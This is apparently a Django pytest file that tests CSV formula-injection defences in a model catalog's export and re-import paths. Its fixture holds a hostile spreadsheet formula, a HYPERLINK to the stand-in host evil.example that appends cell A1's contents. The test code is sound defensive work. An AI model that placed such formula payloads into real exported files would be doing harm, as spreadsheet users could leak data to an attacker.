"""CSV injection: a cell a spreadsheet would run as a formula leaves the catalog inert (the
export command and the admin export) and comes back unchanged on re-import."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from catalog.importers import csv_format
from catalog.importers.apply import apply_plan
from catalog.importers.plan import build_plan
from catalog.models import Offering
from catalog.spreadsheet_cells import FORMULA_STARTS, neutralise_formula, restore_formula
from tests.factories import LanguageModelFactory, ProviderFactory, offer

EVIL_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def evil_offering(db):
    offering = offer(LanguageModelFactory(name="GPT-4o"), ProviderFactory(name="OpenAI"))
    Offering.objects.filter(pk=offering.pk).update(provider_model_id=EVIL_ID)
    return offering


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str):
    assert all(cell[:1] not in FORMULA_STARTS for cell in cells(text)), text
    assert "'" + EVIL_ID in cells(text)


def command_export(tmp_path) -> str:
    path = tmp_path / "export.csv"
    call_command("export_catalog", str(path), stderr=StringIO())
    return path.read_text(encoding="utf-8")


def test_the_export_command_writes_a_formula_cell_as_text(evil_offering, tmp_path):
    assert_inert(command_export(tmp_path))


def test_the_admin_exports_write_a_formula_cell_as_text(editor_client, evil_offering):
    everything = editor_client.get(reverse("admin:catalog_offering_export"))
    assert everything.status_code == 200
    assert_inert(everything.content.decode())
    selection = editor_client.post(
        reverse("admin:catalog_offering_changelist"),
        {"action": "export_selected_as_csv", "_selected_action": [evil_offering.pk]},
    )
    assert_inert(selection.content.decode())


def test_a_formula_cell_round_trips_unchanged_through_export_and_import(
    evil_offering, tmp_path, django_assert_max_num_queries
):
    exported = command_export(tmp_path)
    path = tmp_path / "import.csv"
    path.write_text(exported, encoding="utf-8")
    plan = build_plan(csv_format.parse(path))
    assert plan.counts()["unchanged"] == 1
    assert plan.counts()["new_offerings"] == plan.counts()["unmatched"] == 0
    apply_plan(plan)
    assert Offering.objects.get().provider_model_id == EVIL_ID
    with django_assert_max_num_queries(2):
        assert command_export(tmp_path) == exported


# Not "\r=1": Python 3.11's csv writer leaves a bare carriage return unquoted when lines
# end in "\n", so such a cell splits its line whatever its first character (and the
# importer's own whitespace stripping means no such id is stored in the first place).
@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=already quoted", "''", "'x", "a=b"]
)
def test_a_cell_is_read_back_exactly_as_it_was_written(value):
    out = io.StringIO()
    csv_format.write([{"provider": "openai", "provider_model_id": value}], out)
    (row,) = csv_format.parse_text(out.getvalue()).rows
    assert row.provider_model_id == value


@given(st.text())
def test_neutralising_is_inert_and_exactly_undone(value):
    written = neutralise_formula(value)
    assert written[:1] not in FORMULA_STARTS
    assert restore_formula(written) == value
